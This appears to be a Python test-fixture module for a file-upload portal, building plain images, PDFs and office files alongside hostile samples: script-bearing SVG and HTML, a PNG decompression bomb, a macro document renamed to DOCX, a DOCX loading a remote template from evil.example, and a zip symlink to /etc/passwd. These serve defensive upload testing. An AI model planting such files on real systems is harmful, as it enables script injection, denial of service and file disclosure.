"""Honest and hostile files, made on the spot."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import docx
import openpyxl
import pptx
from fpdf import FPDF
from PIL import Image
from pillow_heif import register_heif_opener

from portal.files.kinds import OASIS, OPENXML

register_heif_opener()

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 200


def picture(format: str = "JPEG", size: tuple[int, int] = (640, 400), mode: str = "RGB", **options: object) -> bytes:
    """A plain picture with a gradient; ``options`` go to Pillow's save."""
    image = Image.linear_gradient("L").resize(size).convert(mode)
    if mode == "RGBA":
        image.putalpha(120)
    target = io.BytesIO()
    image.save(target, format, **options)
    return target.getvalue()


def photo_with_gps(orientation: int = 6) -> bytes:
    """A JPEG as a phone writes it: turned, with a place, a comment and an owner."""
    exif = Image.Exif()
    exif[0x0112], exif[0x010F], exif[0x013B] = orientation, "Phone", "Erika Beispiel"
    exif.get_ifd(0x8825).update({1: "N", 2: (52.0, 31.0, 0.0), 3: "E", 4: (13.0, 24.0, 0.0)})
    return picture(exif=exif, comment=b"secret comment")


def animation(format: str) -> bytes:
    """Three frames."""
    frames = [Image.new("RGB", (40, 40), (shade, 0, 0)) for shade in (0, 120, 250)]
    target = io.BytesIO()
    frames[0].save(target, format, save_all=True, append_images=frames[1:])
    return target.getvalue()


def pixel_bomb(width: int = 13_000, height: int = 13_000) -> bytes:
    """A PNG of a few kilobytes with one bit a pixel that unfolds to ``width`` × ``height``."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    rows = zlib.compress((b"\x00" + b"\x00" * ((width + 7) // 8)) * height, 9)
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def webp_header(width: int, height: int) -> bytes:
    """An extended WebP that claims to be huge and holds nothing."""
    canvas = struct.pack("<I", 0)[:4] + struct.pack("<I", width - 1)[:3] + struct.pack("<I", height - 1)[:3]
    body = b"WEBPVP8X" + struct.pack("<I", 10) + canvas
    return b"RIFF" + struct.pack("<I", len(body)) + body


def pdf(*pages: str, password: str = "") -> bytes:
    """A PDF with one text per page."""
    document = FPDF()
    document.set_font("helvetica", size=14)
    for text in pages:
        document.add_page()
        document.multi_cell(0, 8, text)
    if password:
        document.set_encryption(owner_password=password, user_password=password)
    return bytes(document.output())


def word(*paragraphs: str) -> bytes:
    """A DOCX with these paragraphs and a table."""
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    document.add_table(1, 2).rows[0].cells[1].text = "Tabellenzelle"
    document.sections[0].footer.paragraphs[0].text = "Fußzeile"
    return _saved(document.save)


def slides(*titles: str, notes: str = "") -> bytes:
    """A PPTX with one slide per title; the last one has notes."""
    deck = pptx.Presentation()
    for title in titles:
        slide = deck.slides.add_slide(deck.slide_layouts[5])
        slide.shapes.title.text = title  # type: ignore
    if notes:
        slide.notes_slide.notes_text_frame.text = notes  # type: ignore
    return _saved(deck.save)


def sheet(*rows: tuple[object, ...]) -> bytes:
    """An XLSX with one sheet."""
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)  # type: ignore
    return _saved(workbook.save)


def open_document(text: str = "Fachkräfte", kind: str = "text") -> bytes:
    """An ODT (or ODP, ODS) with one paragraph."""
    content = (
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body>'
        f"<text:p>{text} <text:span>sichern</text:span></text:p></office:body></office:document-content>"
    )
    return archive({"mimetype": OASIS + kind, "content.xml": content})


def archive(members: dict[str, str | bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip archive."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", compression) as packed:
        for name, content in members.items():
            packed.writestr(name, content)
    return target.getvalue()


def repacked(original: bytes, added: dict[str, str | bytes], drop: str = "") -> bytes:
    """The archive with members added, replaced or dropped."""
    with zipfile.ZipFile(io.BytesIO(original)) as packed:
        kept = {name: packed.read(name) for name in packed.namelist() if name != drop}
    return archive({**kept, **added})


def macro_word() -> bytes:
    """A DOCM renamed to DOCX."""
    types = f'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>{OPENXML}</Types>'
    return repacked(word("Text"), {"[Content_Types].xml": types, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def word_with_remote_template() -> bytes:
    """A DOCX that loads its template, with macros, from elsewhere."""
    relationship = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    )
    return repacked(word("Text"), {"word/_rels/settings.xml.rels": relationship})


def word_with_symlink() -> bytes:
    """A DOCX with a member that is a symbolic link to a file of the machine."""
    target = io.BytesIO(word("Text"))
    with zipfile.ZipFile(target, "a") as packed:
        link = zipfile.ZipInfo("word/media/link.png")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        packed.writestr(link, "/etc/passwd")
    return target.getvalue()


def _saved(save: Callable[[io.BytesIO], object]) -> bytes:
    target = io.BytesIO()
    save(target)
    return target.getvalue()


PDF = pdf("Begrüßung", "Fachkräftegewinnung")
